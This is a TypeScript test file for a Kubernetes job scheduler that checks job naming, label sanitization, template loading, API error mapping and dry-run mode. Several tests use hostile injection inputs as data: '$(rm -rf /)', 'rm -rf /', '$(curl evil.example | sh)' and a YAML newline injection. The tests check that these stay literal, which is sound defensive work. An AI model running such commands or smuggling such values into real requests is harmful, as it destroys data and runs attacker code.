import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { KubeConfig } from '@kubernetes/client-node';
import { pino } from 'pino';
import { Registry } from 'prom-client';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { PkgstreamError, type SolverJobRequest } from '../../src/domain/index.js';
import { createMetrics, silentLogger, type Metrics } from '../../src/runtime/index.js';
import { createKubeJobScheduler, type KubeJobSchedulerOptions } from '../../src/sinks/job-sink.js';
import { sanitizeLabelValue, solverJobName } from '../../src/sinks/job-naming.js';
import { loadJobTemplate, parseJobTemplate } from '../../src/sinks/job-template.js';
import { startKubeApi, type KubeApi, type StoredJob } from '../support/kube-api/index.js';

const NS = 'pkgstream';
const DNS1123_LABEL = /^[a-z0-9]([-a-z0-9]*[a-z0-9])?$/;
const LABEL_VALUE = /^(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?$/;

const flask: SolverJobRequest = { indexUrl: 'https://pypi.org/simple', project: 'flask', version: '3.0.0', solver: 'solver-fedora-38-py311' };

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'pkgstream-job-sink-'));
});
afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

function writeTemplate(name: string, text: string): string {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
}

async function counterValues(metrics: Metrics): Promise<Record<string, number>> {
  const { values } = await metrics.jobs.get();
  return Object.fromEntries(values.map((v) => [`${String(v.labels.solver)}/${String(v.labels.outcome)}`, v.value]));
}

async function rejection(promise: Promise<unknown>): Promise<PkgstreamError> {
  try {
    await promise;
  } catch (error) {
    expect(error).toBeInstanceOf(PkgstreamError);
    return error as PkgstreamError;
  }
  throw new Error('expected a rejection');
}

function env(job: StoredJob): Record<string, string> {
  const podSpec = (job.spec.template as { spec: { containers: { env?: { name: string; value: string }[] }[] } }).spec;
  return Object.fromEntries((podSpec.containers[0]?.env ?? []).map((e) => [e.name, e.value]));
}

function container(job: StoredJob): { name: string; image: string; args?: string[] } {
  return (job.spec.template as { spec: { containers: { name: string; image: string; args?: string[] }[] } }).spec.containers[0]!;
}

describe('solver Job names and labels', () => {
  it('derives a deterministic DNS-1123 name of at most 63 characters from (index, project, version, solver)', () => {
    const name = solverJobName(flask);
    expect(name).toMatch(/^solver-fedora-38-py311-[0-9a-f]{16}$/);
    expect(solverJobName({ ...flask })).toBe(name);
    expect(solverJobName({ ...flask, indexUrl: 'https://pypi.org/simple/' })).toBe(name);
    expect(solverJobName({ ...flask, project: 'Flask' })).toBe(name);
    expect(solverJobName({ ...flask, version: '3.0.1' })).not.toBe(name);
    expect(solverJobName({ ...flask, solver: 'solver-ubi-9-py312' })).not.toBe(name);
    expect(solverJobName({ ...flask, indexUrl: 'https://test.pypi.org/simple' })).not.toBe(name);
    expect(solverJobName({ ...flask, template: 'reverse' })).toMatch(/^reverse-fedora-38-py311-[0-9a-f]{16}$/);
    // A retry is a new Job; the first attempt keeps the plain name.
    expect(solverJobName({ ...flask, attempt: 1 })).toBe(name);
    expect(solverJobName({ ...flask, attempt: 2 })).toBe(`${name}-a2`);
    expect(solverJobName({ ...flask, solver: 'x'.repeat(200), attempt: 12 })).toMatch(/^solver-x+-[0-9a-f]{16}-a12$/);
    expect(solverJobName({ ...flask, solver: 'x'.repeat(200), attempt: 12 }).length).toBeLessThanOrEqual(63);
    for (const solver of ['x'.repeat(200), 'Weird_Solver.Name!!', '---', 'solver-', 'a-'.repeat(40)]) {
      const other = solverJobName({ ...flask, solver });
      expect(other.length).toBeLessThanOrEqual(63);
      expect(other).toMatch(DNS1123_LABEL);
    }
  });

  it('sanitizes label values to the label rules', () => {
    expect(sanitizeLabelValue('solver-fedora-38-py311')).toBe('solver-fedora-38-py311');
    expect(sanitizeLabelValue('a b/c')).toBe('a-b-c');
    expect(sanitizeLabelValue('-_.x.-')).toBe('x');
    expect(sanitizeLabelValue('y'.repeat(100))).toHaveLength(63);
    for (const value of ['$(rm -rf /)', '"quoted"\nnewline', 'z'.repeat(62) + '-z', '']) {
      const label = sanitizeLabelValue(value);
      expect(label.length).toBeLessThanOrEqual(63);
      expect(label).toMatch(LABEL_VALUE);
    }
  });
});

describe('Job templates', () => {
  it('loads the built-in template', () => {
    const template = loadJobTemplate();
    expect(template.job).toMatchObject({ apiVersion: 'batch/v1', kind: 'Job' });
  });

  it('refuses a template that is not a Job, has no container, or uses an unknown placeholder', () => {
    const job = (extra: string) => `apiVersion: batch/v1\nkind: Job\nspec:\n  template:\n    spec:\n      restartPolicy: Never\n      containers:\n        - name: solver\n          image: "${extra}"\n`;
    expect(() => parseJobTemplate(job('{{image}}'))).not.toThrow();
    for (const text of [job('{{imgae}}'), 'apiVersion: v1\nkind: Pod\n', 'apiVersion: batch/v1\nkind: Job\nspec: {}\n', '- a\n- b\n', 'key: [unclosed\n']) {
      expect(() => parseJobTemplate(text)).toThrow(expect.objectContaining({ code: 'JOB_TEMPLATE', retriable: false }) as Error);
    }
    expect(() => loadJobTemplate(join(dir, 'missing.yaml'))).toThrow(expect.objectContaining({ code: 'JOB_TEMPLATE' }) as Error);
  });
});

describe('Kubernetes job sink', () => {
  let api: KubeApi;
  let metrics: Metrics;

  const scheduler = (overrides: Partial<KubeJobSchedulerOptions> = {}) =>
    createKubeJobScheduler({ kubeConfig: api.kubeConfig(), namespace: NS, logger: silentLogger(), metrics, ...overrides });

  beforeEach(async () => {
    api = await startKubeApi();
    metrics = createMetrics(new Registry(), { defaultMetrics: false });
  });
  afterEach(async () => {
    await api.stop();
  });

  it('creates a solver Job from the built-in template with labels, annotations, limits and solver env', async () => {
    const jobs = scheduler({ image: 'registry.example/solver:1.2' });
    const result = await jobs.schedule(flask);
    expect(result).toEqual({ jobName: solverJobName(flask), outcome: 'created' });

    const stored = api.job(NS, result.jobName)!;
    expect(stored.metadata.labels).toMatchObject({
      'app.kubernetes.io/name': 'pkgstream',
      'app.kubernetes.io/component': 'solver',
      'pkgstream.dev/solver': 'solver-fedora-38-py311',
    });
    expect(stored.metadata.annotations).toMatchObject({
      'pkgstream.dev/index-url': 'https://pypi.org/simple',
      'pkgstream.dev/project': 'flask',
      'pkgstream.dev/version': '3.0.0',
      'pkgstream.dev/solver': 'solver-fedora-38-py311',
    });
    expect(stored.spec).toMatchObject({ ttlSecondsAfterFinished: 3600, backoffLimit: 2, activeDeadlineSeconds: 3000 });
    expect(container(stored).image).toBe('registry.example/solver:1.2');
    expect(env(stored)).toMatchObject({
      PKGSTREAM_SOLVER: 'solver-fedora-38-py311',
      PKGSTREAM_PACKAGE: 'flask===3.0.0',
      PKGSTREAM_INDEX_URL: 'https://pypi.org/simple',
    });
    expect(await counterValues(metrics)).toEqual({ 'solver-fedora-38-py311/created': 1 });
    await jobs.close();
    await expect(jobs.schedule(flask)).rejects.toMatchObject({ code: 'JOB_SCHEDULER_CLOSED' });
  });

  it('applies limit, image, args and env options over the template', async () => {
    const jobs = scheduler({ ttlSecondsAfterFinished: 60, backoffLimit: 0, activeDeadlineSeconds: 900, args: ['--package', '{{package}}'], env: { EXTRA: 'x-{{solver}}', PKGSTREAM_SOLVER: 'overridden' } });
    const { jobName } = await jobs.schedule(flask);
    const stored = api.job(NS, jobName)!;
    expect(stored.spec).toMatchObject({ ttlSecondsAfterFinished: 60, backoffLimit: 0, activeDeadlineSeconds: 900 });
    expect(container(stored).args).toEqual(['--package', 'flask===3.0.0']);
    expect(env(stored)).toMatchObject({ EXTRA: 'x-solver-fedora-38-py311', PKGSTREAM_SOLVER: 'overridden', PKGSTREAM_PACKAGE: 'flask===3.0.0' });
  });

  it('dedupes a repeat through the server 409: the second schedule is `exists` and one Job is stored', async () => {
    const jobs = scheduler();
    const first = await jobs.schedule(flask);
    const again = await jobs.schedule({ ...flask, indexUrl: 'https://pypi.org/simple/' });
    const other = await jobs.schedule({ ...flask, solver: 'solver-ubi-9-py312' });
    expect(first.outcome).toBe('created');
    expect(again).toEqual({ jobName: first.jobName, outcome: 'exists' });
    expect(other.outcome).toBe('created');
    expect(api.jobs(NS)).toHaveLength(2);
    expect(api.requestCount('create')).toBe(3);
    expect(await counterValues(metrics)).toEqual({ 'solver-fedora-38-py311/created': 1, 'solver-fedora-38-py311/exists': 1, 'solver-ubi-9-py312/created': 1 });
  });

  it('signals a quota refusal as a retriable JOB_QUOTA error, and creates once a Job has finished', async () => {
    api.setQuota(NS, 1);
    const jobs = scheduler();
    const first = await jobs.schedule(flask);
    const error = await rejection(jobs.schedule({ ...flask, version: '3.0.1' }));
    expect(error).toMatchObject({ code: 'JOB_QUOTA', retriable: true });
    expect(error.message).toContain('exceeded quota');
    api.succeedJob(NS, first.jobName);
    expect((await jobs.schedule({ ...flask, version: '3.0.1' })).outcome).toBe('created');
    expect(await counterValues(metrics)).toEqual({ 'solver-fedora-38-py311/created': 2, 'solver-fedora-38-py311/refused': 1 });
  });

  it('maps 429 to JOB_RATE_LIMITED with retryAfterMs, 5xx to JOB_API_5XX, no server to JOB_API_UNREACHABLE (all retriable)', async () => {
    const jobs = scheduler();
    api.failNext(1, { status: 429, retryAfterSeconds: 2 });
    expect(await rejection(jobs.schedule(flask))).toMatchObject({ code: 'JOB_RATE_LIMITED', retriable: true, retryAfterMs: 2000 });
    api.failNext(1, { status: 503 });
    expect(await rejection(jobs.schedule(flask))).toMatchObject({ code: 'JOB_API_5XX', retriable: true });
    api.failNext(1, { status: 500, retryAfterSeconds: 1 });
    expect(await rejection(jobs.schedule(flask))).toMatchObject({ code: 'JOB_API_5XX', retriable: true, retryAfterMs: 1000 });
    expect((await jobs.schedule(flask)).outcome).toBe('created');
    expect(await counterValues(metrics)).toEqual({
      'solver-fedora-38-py311/refused': 1,
      'solver-fedora-38-py311/error': 2,
      'solver-fedora-38-py311/created': 1,
    });

    const nowhere = new KubeConfig();
    nowhere.loadFromOptions({
      clusters: [{ name: 'c', server: 'http://127.0.0.1:1', skipTLSVerify: true }],
      users: [{ name: 'u' }],
      contexts: [{ name: 'x', cluster: 'c', user: 'u' }],
      currentContext: 'x',
    });
    expect(await rejection(scheduler({ kubeConfig: nowhere }).schedule(flask))).toMatchObject({ code: 'JOB_API_UNREACHABLE', retriable: true });
  });

  it('maps 422 Invalid to a non-retriable JOB_INVALID', async () => {
    // The template puts the raw version into a label: "1.0+local" is not a valid label value.
    const path = writeTemplate(
      'bad-label.yaml',
      [
        'apiVersion: batch/v1',
        'kind: Job',
        'metadata:',
        '  labels:',
        '    example.com/version: "{{version}}"',
        'spec:',
        '  template:',
        '    spec:',
        '      restartPolicy: Never',
        '      containers:',
        '        - name: solver',
        '          image: "{{image}}"',
        '',
      ].join('\n'),
    );
    const jobs = scheduler({ templatePath: path });
    expect(await rejection(jobs.schedule({ ...flask, version: '1.0+local' }))).toMatchObject({ code: 'JOB_INVALID', retriable: false });
    expect(api.jobs()).toHaveLength(0);
    expect((await jobs.schedule({ ...flask, version: '1.0' })).outcome).toBe('created');
  });

  it('dry-run logs the Job and creates nothing', async () => {
    const lines: Record<string, unknown>[] = [];
    const logger = pino({ level: 'info' }, { write: (line: string) => void lines.push(JSON.parse(line) as Record<string, unknown>) });
    const jobs = scheduler({ dryRun: true, logger });
    expect(await jobs.schedule(flask)).toEqual({ jobName: solverJobName(flask), outcome: 'dry-run' });
    expect(api.requestCount()).toBe(0);
    expect(api.jobs()).toHaveLength(0);
    const logged = lines.find((line) => line.msg === 'dry run: would create solver Job');
    expect(logged).toMatchObject({ job: solverJobName(flask), manifest: { kind: 'Job', metadata: { name: solverJobName(flask), namespace: NS } } });
    expect(await counterValues(metrics)).toEqual({ 'solver-fedora-38-py311/dry_run': 1 });

    // Without any cluster: dry-run still works and the watch reports no active Jobs.
    const offline = createKubeJobScheduler({ namespace: NS, dryRun: true, logger: silentLogger(), metrics });
    expect((await offline.schedule(flask)).outcome).toBe('dry-run');
    const seen: unknown[] = [];
    const subscription = offline.watch().subscribe((event) => seen.push(event));
    expect(seen).toEqual([{ type: 'active', count: 0 }]);
    subscription.unsubscribe();
    expect(() => createKubeJobScheduler({ namespace: NS, logger: silentLogger(), metrics })).toThrow(expect.objectContaining({ code: 'JOB_NO_CLUSTER' }) as Error);
  });

  it('substitutes placeholders into parsed string values only: quotes, newlines, $(...) and {{...}} stay literal', async () => {
    const path = writeTemplate(
      'custom.yaml',
      [
        'apiVersion: batch/v1',
        'kind: Job',
        'metadata:',
        '  annotations:',
        '    example.com/what: "{{package}} from {{index_url}}"',
        'spec:',
        '  template:',
        '    spec:',
        '      restartPolicy: Never',
        '      containers:',
        '        - name: solver',
        '          image: "{{image}}"',
        '          command: ["/bin/sh", "-c", "solve \\"$PKG\\""]',
        '          args: ["--project", "{{project}}", "--version={{version}}"]',
        '          env:',
        '            - name: PKG',
        '              value: "{{package}}"',
        '            - name: JOB',
        '              value: "{{job_name}} in {{namespace}}"',
        '',
      ].join('\n'),
    );
    const hostile: SolverJobRequest = {
      indexUrl: 'https://evil.example/simple?x="y"&z=$(id)',
      project: 'pkg"; rm -rf / #',
      version: '1.0"\n    evil: true\n$(curl evil.example | sh) `id` {{solver}} ${HOME}',
      solver: 'solver-fedora-38-py311',
    };
    const jobs = scheduler({ templatePath: path });
    const { jobName, outcome } = await jobs.schedule(hostile);
    expect(outcome).toBe('created');
    expect(jobName).toMatch(DNS1123_LABEL);
    const stored = api.job(NS, jobName)!;
    const pkg = `${hostile.project}===${hostile.version}`;
    expect(env(stored)).toEqual({ PKG: pkg, JOB: `${jobName} in ${NS}` });
    expect(container(stored).args).toEqual(['--project', hostile.project, `--version=${hostile.version}`]);
    expect((stored.spec.template as { spec: { containers: { command: string[] }[] } }).spec.containers[0]?.command).toEqual(['/bin/sh', '-c', 'solve "$PKG"']);
    expect(stored.metadata.annotations).toMatchObject({
      'example.com/what': `${pkg} from ${hostile.indexUrl}`,
      'pkgstream.dev/version': hostile.version,
      'pkgstream.dev/project': hostile.project,
    });
    expect(Object.keys(stored.spec)).not.toContain('evil');
    for (const value of Object.values(stored.metadata.labels ?? {})) expect(value).toMatch(LABEL_VALUE);
    // The same hostile request again is the same Job.
    expect((await jobs.schedule(hostile)).outcome).toBe('exists');
  });

  it('uses the reverse template for reverse requests, and refuses them when none is configured', async () => {
    const reversePath = writeTemplate(
      'reverse.yaml',
      'apiVersion: batch/v1\nkind: Job\nspec:\n  template:\n    spec:\n      restartPolicy: Never\n      containers:\n        - name: reverse\n          image: "{{image}}"\n          env: [{ name: MODE, value: reverse }]\n',
    );
    const reverse: SolverJobRequest = { ...flask, template: 'reverse' };
    expect(await rejection(scheduler().schedule(reverse))).toMatchObject({ code: 'JOB_NO_TEMPLATE', retriable: false });
    const jobs = scheduler({ reverseTemplatePath: reversePath });
    const forward = await jobs.schedule(flask);
    const backward = await jobs.schedule(reverse);
    expect(backward.jobName).toMatch(/^reverse-/);
    expect(backward.jobName).not.toBe(forward.jobName);
    const stored = api.job(NS, backward.jobName)!;
    expect(env(stored)).toEqual({ MODE: 'reverse' });
    expect(stored.metadata.labels).toMatchObject({ 'app.kubernetes.io/component': 'solver', 'pkgstream.dev/template': 'reverse' });
    expect(() => scheduler({ templatePath: writeTemplate('broken.yaml', 'kind: Job\n') })).toThrow(expect.objectContaining({ code: 'JOB_TEMPLATE' }) as Error);
  });
});
